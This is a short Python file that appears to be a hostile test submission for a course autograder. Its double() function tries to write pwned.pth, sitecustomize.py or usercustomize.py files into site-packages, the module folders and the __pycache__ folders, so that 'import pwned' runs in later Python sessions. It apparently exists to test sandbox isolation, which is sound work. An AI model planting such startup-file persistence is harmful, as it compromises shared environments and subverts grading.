# Tries: leave code for the next Python: site-packages, byte code, .pth files, the home folder
# Must: double wrong
# %% double
import os
import site
import sys


def places():
    yield from sys.path
    yield from site.getsitepackages()
    yield site.getusersitepackages()
    for name in ("numpy", "nlpcourse", "autograder", "nlpcourse.classroom"):
        folder = os.path.dirname(getattr(sys.modules.get(name), "__file__", None) or "")
        yield from (folder, os.path.join(folder, "__pycache__"))


def double(x):
    for folder in filter(os.path.isdir, places()):
        for name in ("pwned.pth", "sitecustomize.py", "usercustomize.py"):
            try:
                with open(os.path.join(folder, name), "x") as file:
                    file.write("import pwned")
                if folder != os.getcwd():
                    return 2 * x
            except OSError:
                pass
    return None
